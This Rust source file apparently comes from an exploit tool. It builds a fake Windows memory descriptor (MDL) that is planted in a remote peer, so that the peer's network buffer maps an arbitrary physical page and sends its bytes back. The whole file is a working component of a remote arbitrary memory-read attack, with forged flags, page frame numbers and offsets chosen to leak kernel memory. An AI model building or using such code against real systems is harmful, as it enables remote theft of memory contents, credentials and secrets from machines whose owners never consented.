//! Memory descriptor: the fake MDL planted in the peer so that its
//! network buffer maps an arbitrary physical page.
//!
//! Built fresh for every read from a single `(map_va, phys_addr)` pair and
//! never reused.

use static_assertions::assert_eq_size;
use zerocopy::{AsBytes, FromBytes, FromZeroes};

use crate::wire::{Le16, Le32, Le64, ENVELOPE_HEADER_LEN};

/// Descriptor size as recorded in its own `size` field.
pub const DESCRIPTOR_SIZE: u16 = 0x48;

/// MAPPED_TO_SYSTEM_VA | SOURCE_IS_NONPAGED_POOL | ALLOCATED_FIXED_SIZE |
/// PARTIAL_HAS_BEEN_MAPPED | PAGES_LOCKED | WRITE_OPERATION.
pub const DESCRIPTOR_FLAGS: u16 = 0x501C;

/// Bytes the peer will copy out of the mapped page.
pub const DESCRIPTOR_BYTE_COUNT: u32 = 0x258;

/// Number of page frame slots carried after the header.
pub const DESCRIPTOR_PAGES: usize = 3;

const PAGE_OFFSET_MASK: u64 = 0xFFF;

/// Wire size: 72 bytes.
#[derive(Debug, Clone, AsBytes, FromBytes, FromZeroes)]
#[repr(C)]
pub struct MemoryDescriptor {
    pub next: Le64,
    pub size: Le16,
    pub flags: Le16,
    pub allocation_processor: Le16,
    pub reserved: Le16,
    pub process: Le64,
    pub mapped_va: Le64,
    pub start_va: Le64,
    pub byte_count: Le32,
    /// Offset into the first page. Skips the envelope header so the leaked
    /// bytes start at the first byte the peer sends back.
    pub byte_offset: Le32,
    pub page_frames: [Le64; DESCRIPTOR_PAGES],
}

assert_eq_size!(MemoryDescriptor, [u8; 72]);

impl MemoryDescriptor {
    pub fn new(map_va: u64, phys_addr: u64) -> Self {
        let pfn = Le64::new(phys_addr >> 12);
        let byte_offset = (phys_addr & PAGE_OFFSET_MASK) as u32 + ENVELOPE_HEADER_LEN as u32;

        Self {
            next: Le64::ZERO,
            size: Le16::new(DESCRIPTOR_SIZE),
            flags: Le16::new(DESCRIPTOR_FLAGS),
            allocation_processor: Le16::ZERO,
            reserved: Le16::ZERO,
            process: Le64::ZERO,
            mapped_va: Le64::new(map_va),
            start_va: Le64::new(map_va & !PAGE_OFFSET_MASK),
            byte_count: Le32::new(DESCRIPTOR_BYTE_COUNT),
            byte_offset: Le32::new(byte_offset),
            page_frames: [pfn; DESCRIPTOR_PAGES],
        }
    }
}
